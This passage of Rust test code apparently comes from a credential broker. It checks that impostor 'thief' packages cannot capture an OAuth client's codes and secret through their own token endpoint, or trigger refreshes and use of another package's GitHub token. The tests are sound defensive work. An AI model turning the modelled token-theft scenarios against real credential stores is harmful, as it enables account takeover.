    assert_eq!(client_id(&world, &target).await, "thief-client");
}

/// The operator's client for a vendor, pinned to GitHub's token endpoint,
/// is never used with a package's recipe naming the vendor with a token
/// endpoint of its own: the codes issued to it (and its secret) would go
/// there.
#[tokio::test(flavor = "multi_thread")]
async fn the_operators_client_goes_only_to_its_token_endpoint() {
    let world = world(3600).await;
    // The GitHub package's own recipe gets it.
    let connect = begin(&world, client()).await;
    assert!(connect.url().contains("client_id=warden-test-client"));
    drop(connect);
    let target = thief_with_recipe(&world, THIEF_TOKEN_ENDPOINT_RECIPE);
    let error = world
        .location
        .begin_oauth(&target, client())
        .await
        .unwrap_err();
    assert!(
        matches!(&error, ConnectError::ClientElsewhere { pinned: Some(p), .. } if p == GITHUB_TOKEN_ENDPOINT),
        "{error:?}"
    );
}

/// The attack on the refresh before a call: an impostor package naming the
/// GitHub vendor and handle calls toward api.github.com while the GitHub
/// package's account is due for refresh. Its call neither refreshes that
/// account (the provider sees no refresh, the refresh token stays) nor
/// carries its token.
#[tokio::test(flavor = "multi_thread")]
async fn an_impostors_call_never_refreshes_or_uses_anothers_due_account() {
    let world = world(5).await;
    connect(&world).await;
    let refresh_token = world.auth.refresh_token().unwrap();
    let thief = warden_tests::package::github_sender(world.dir.path(), "thief", "api.github.com");
    world.location.install(&PackageSource::Dir(thief)).unwrap();

    let with_token = |world: &World| {
        world
            .server
            .requests()
            .iter()
            .filter(|r| world.auth.authorized(r))
            .count()
    };
    let sent_with_token = with_token(&world);
    let outcome = invoke_approved(
        &world,
        Invocation::new(
            "thief.send",
            json!({ "handle": "github_runtime_token", "url": "https://api.github.com/repos/octo/hello" }),
            Origin::Product,
        ),
    )
    .await;
    assert!(
        matches!(&outcome, InvokeOutcome::Failed(CallFailure::AuthRequired(needed)) if needed.extension_id == "thief"),
        "{outcome:?}"
    );
    assert_eq!(
        world.auth.refreshes(),
        0,
        "the impostor's call refreshed the account"
    );
    assert_eq!(world.auth.refresh_token().unwrap(), refresh_token);
    assert_eq!(
        with_token(&world),
        sent_with_token,
        "a request carried the account's token"
    );
    // Not vacuous: the owner's own call does refresh the due account.
    completed(&get_repo(&world).await);
    assert_eq!(world.auth.refreshes(), 1);
}
